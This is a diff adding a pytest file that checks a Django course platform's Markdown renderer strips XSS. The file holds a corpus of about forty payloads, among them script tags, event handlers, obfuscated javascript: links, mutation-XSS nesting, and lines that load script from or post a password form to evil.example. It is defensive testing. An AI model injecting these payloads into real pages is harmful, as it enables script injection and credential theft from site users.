@@ -1,0 +1,232 @@
+"""Untrusted Markdown becomes safe HTML: the XSS corpus, the constructs a lesson
+needs, and the cache."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+from http import HTTPStatus
+
+import pytest
+from django.core.cache import cache
+
+from courses import rendering
+from courses.models import Lesson
+from courses.rendering import render_markdown
+from tests.factories import make_course
+
+# Each payload tries to run script, load active content, restyle the page or
+# post a form; in Markdown, in raw HTML, or mixed.
+XSS_CORPUS = [
+    "<script>alert('xss')</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="javascript:alert(1)">',
+    "<svg onload=alert(1)><circle r=10></circle></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    '<iframe src="https://evil.example"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
+    "<style>body { display: none }</style>",
+    '<p style="background:url(javascript:alert(1))">styled</p>',
+    '<object data="evil.swf"></object>',
+    '<embed src="evil.swf">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<a href="javascript:alert(1)">click</a>',
+    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
+    '<a href="&#106;avascript:alert(1)">entity encoded</a>',
+    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">hex</a>',
+    '<a href="java\tscript:alert(1)">tab split</a>',
+    "[markdown link](javascript:alert(1))",
+    "[mixed case](JAVASCRIPT:alert(1))",
+    "[entity](&#106;avascript:alert(1))",
+    "[data url](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[vbscript](vbscript:msgbox(1))",
+    "![image](javascript:alert(1))",
+    '![onerror](x" onerror="alert(1))',
+    '[title quote](https://example.com "a" onmouseover="alert(1)")',
+    "<a href=x onmouseover=alert(1)>hover</a>",
+    "<body onload=alert(1)>",
+    '<div onclick="alert(1)">click me</div>',
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<input autofocus onfocus=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<base href="https://evil.example/">',
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    '<video><source onerror="alert(1)"></video>',
+    "```html\n<script>alert('in code is text')</script>\n```",
+    "<<script>script>alert(1)<</script>/script>",
+    '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+]
+
+SAFE_TAGS = {
+    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "div", "dl", "dt", "em",
+    "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "kbd", "li", "ol", "p", "pre",
+    "s", "span", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead",
+    "tr", "ul",
+}  # fmt: skip
+SAFE_SCHEMES = {"http", "https", "mailto"}
+# The page's own markup around the rendered content (the one script is checked
+# separately).
+PAGE_TAGS = {
+    "html", "head", "meta", "title", "link", "body", "header", "nav", "main", "footer",
+    "article", "aside", "section", "details", "summary", "button", "script",
+}  # fmt: skip
+
+
+class ElementCollector(HTMLParser):
+    """Every element and attribute a browser would build from the HTML (text,
+    escaped or not, is only text)."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.elements.append((tag, attrs))
+
+    handle_startendtag = handle_starttag
+
+
+def unsafe_parts(html: str, *, allowed_tags: set[str] = SAFE_TAGS) -> list[str]:
+    """The elements and attributes in `html` that could run script, load active
+    content, restyle the page or submit data."""
+    collector = ElementCollector()
+    collector.feed(html)
+    collector.close()
+    problems = []
+    for tag, attrs in collector.elements:
+        if tag not in allowed_tags:
+            problems.append(f"<{tag}>")
+        for name, value in attrs:
+            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "action"}:
+                problems.append(f"<{tag} {name}>")
+            if name in {"href", "src", "xlink:href"} and value is not None:
+                # Browsers drop ASCII whitespace and control characters in schemes.
+                squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
+                scheme = squeezed.split(":", 1)[0] if ":" in squeezed else ""
+                if scheme and "/" not in scheme and scheme not in SAFE_SCHEMES:
+                    problems.append(f"<{tag} {name}={value}>")
+    return problems
+
+
+def test_the_checker_spots_active_content():
+    assert unsafe_parts('<p>fine <a href="https://example.com">x</a></p>') == []
+    assert unsafe_parts("&lt;script&gt;alert(1)&lt;/script&gt;") == []
+    assert unsafe_parts("<script>x</script>") == ["<script>"]
+    assert unsafe_parts('<img src="x" onerror="y">') == ["<img onerror>"]
+    assert unsafe_parts('<a href="&#106;avascript:x">') == ["<a href=javascript:x>"]
+    assert unsafe_parts('<a href=" java\tscript:x">') == ["<a href= java\tscript:x>"]
+    assert unsafe_parts('<p style="x">') == ["<p style>"]
+
+
+def test_the_corpus_is_big_enough():
+    assert len(XSS_CORPUS) >= 25
+    assert len(set(XSS_CORPUS)) == len(XSS_CORPUS)
+
+
+@pytest.mark.parametrize("payload", XSS_CORPUS)
+def test_payload_does_not_survive_rendering(payload):
+    html = rendering.render_markdown_uncached(payload)
+    assert unsafe_parts(html) == []
+    assert unsafe_parts(str(render_markdown(payload))) == []
+
+
+@pytest.mark.parametrize("payload", XSS_CORPUS)
+def test_payload_inside_markdown_structure_does_not_survive(payload):
+    text = f"## Heading\n\n> {payload}\n\n- item {payload}\n\n| a |\n|---|\n| {payload} |\n"
+    assert unsafe_parts(rendering.render_markdown_uncached(text)) == []
+
+
+@pytest.mark.django_db
+def test_no_payload_survives_the_lesson_page(client):
+    course = make_course(modules=1, lessons=1, quizzes=1)
+    lesson = Lesson.objects.get(module__course=course)
+    lesson.content = {"type": "MARKDOWN", "value": "\n\n".join(XSS_CORPUS)}
+    lesson.title = "<script>alert('title')</script>"
+    lesson.save()
+    module = lesson.module
+    module.description = "<img src=x onerror=alert(1)>"
+    module.save()
+    course.description = '<a href="javascript:alert(1)">x</a>'
+    course.save()
+    for url in (lesson.get_absolute_url(), module.get_absolute_url(), course.get_absolute_url()):
+        response = client.get(url)
+        assert response.status_code == HTTPStatus.OK
+        html = response.content.decode()
+        # The page's own scripts are the static theme script only.
+        assert re.findall(r"<script[^>]*>", html) == ['<script src="/static/js/theme.js">']
+        assert unsafe_parts(html, allowed_tags=SAFE_TAGS | PAGE_TAGS) == [], url
+        collector = ElementCollector()
+        collector.feed(html)
+        for tag, attrs in collector.elements:
+            attributes = dict(attrs)
+            if tag == "link":
+                assert attributes["href"].startswith("/static/"), attributes
+            if tag == "meta":
+                assert set(attributes) <= {"charset", "name", "content"}, attributes
+                assert attributes.get("name") in {None, "viewport", "color-scheme"}, attributes
+    assert "&lt;script&gt;alert(&#x27;title&#x27;)&lt;/script&gt;" in html
+
+
+def test_lesson_markdown_keeps_what_lessons_need():
+    text = (
+        "# Title\n\n## Section\n\n### Sub\n\nSome **bold**, *italic*, ~~old~~ and `code`.\n\n"
+        "> A quote\n\n1. one\n2. two\n\n- a\n- b\n\n"
+        "| x | y |\n|---|---|\n| 1 | 2 |\n\n"
+        "[link](https://example.com) and <https://example.org>\n\n"
+        "```python\ndef add(a, b):\n    return a + b  # sum\n```\n\n"
+        "```\nplain text <b>not bold</b>\n```\n"
+    )
+    html = rendering.render_markdown_uncached(text)
+    for fragment in (
+        "<h1>Title</h1>",
+        "<h2>Section</h2>",
+        "<h3>Sub</h3>",
+        "<strong>bold</strong>",
+        "<em>italic</em>",
+        "<s>old</s>",
+        "<code>code</code>",
+        "<blockquote>",
+        "<ol>",
+        "<ul>",
+        "<table>",
+        "<td>2</td>",
+        '<a href="https://example.com" rel="noopener noreferrer nofollow">link</a>',
+        '<span class="k">def</span>',
+        '<span class="nf">add</span>',
+        '<span class="c1"># sum</span>',
+        "plain text &lt;b&gt;not bold&lt;/b&gt;",
+    ):
+        assert fragment in html, fragment
+    # Highlighted code sits in pre > code, where pygments.css expects it.
+    assert re.search(r"<pre><code[^>]*><span class=\"k\">def</span>", html)
+
+
+def test_unknown_language_is_escaped_not_highlighted():
+    html = rendering.render_markdown_uncached("```nosuchlanguage\n<b>x</b>\n```")
+    assert "&lt;b&gt;x&lt;/b&gt;" in html
+    assert "<span" not in html
+
+
+def test_rendering_is_cached_and_an_edit_renders_afresh(monkeypatch):
+    cache.clear()
+    calls = []
+    original = rendering.render_markdown_uncached
+
+    def counting(text):
+        calls.append(text)
+        return original(text)
+
+    monkeypatch.setattr(rendering, "render_markdown_uncached", counting)
+    assert str(render_markdown("# One")) == "<h1>One</h1>\n"
+    assert str(render_markdown("# One")) == "<h1>One</h1>\n"
+    assert calls == ["# One"]
+    assert str(render_markdown("# One, edited")) == "<h1>One, edited</h1>\n"
+    assert calls == ["# One", "# One, edited"]
+
+
+def test_empty_and_missing_text_render_empty():
+    assert str(render_markdown("")) == ""
+    assert str(render_markdown(None)) == ""
